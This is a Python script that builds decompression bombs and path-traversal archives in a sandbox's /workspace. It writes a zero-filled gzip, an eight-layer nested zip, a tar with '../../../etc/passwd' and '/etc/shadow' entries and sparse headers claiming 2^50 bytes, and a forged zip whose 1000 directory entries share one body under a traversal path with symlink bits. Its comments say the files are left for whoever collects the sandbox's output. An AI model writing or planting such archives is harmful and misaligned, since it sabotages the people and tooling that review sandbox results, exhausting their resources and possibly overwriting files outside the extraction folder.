# Archives for whoever unpacks what a sandbox leaves: nobody should.
import gzip, io, os, struct, tarfile, zipfile, zlib

os.chdir("/workspace")
os.makedirs("bombs")
zeros = b"\0" * (1 << 20)

with gzip.open("bombs/grows.gz", "wb", 9) as f:  # 64 MiB in 64 KiB
    for _ in range(64):
        f.write(zeros)

inner = open("bombs/grows.gz", "rb").read()
for _ in range(8):  # layer over layer
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(8):
            z.writestr("%d.zip" % i, inner)
    inner = zlib.compress(b.getvalue(), 9)
open("bombs/nests.zip", "wb").write(inner)

with tarfile.open("bombs/lies.tar", "w", format=tarfile.PAX_FORMAT) as t:
    for name in ("../../../etc/passwd", "/etc/shadow", "x"):
        m = tarfile.TarInfo(name)
        m.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.realsize": str(1 << 50)}
        t.addfile(m)

# A zip whose directory has one body many times, outside of its folder.
body = zlib.compressobj(9, zlib.DEFLATED, -15)
packed = body.compress(zeros) + body.flush()
name = b"../../../tmp/overlap"
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, zlib.crc32(zeros), len(packed), len(zeros), len(name), 0) + name + packed
central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, zlib.crc32(zeros), len(packed), len(zeros), len(name), 0, 0, 0, 0, 0o120777 << 16, 0) + name
many = 1000
end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, many, many, len(central) * many, len(local), 0)
open("bombs/overlaps.zip", "wb").write(local + central * many + end)

left = {n: os.path.getsize("bombs/" + n) for n in sorted(os.listdir("bombs"))}
print("STOPPED bombs: left for who collects:", left)
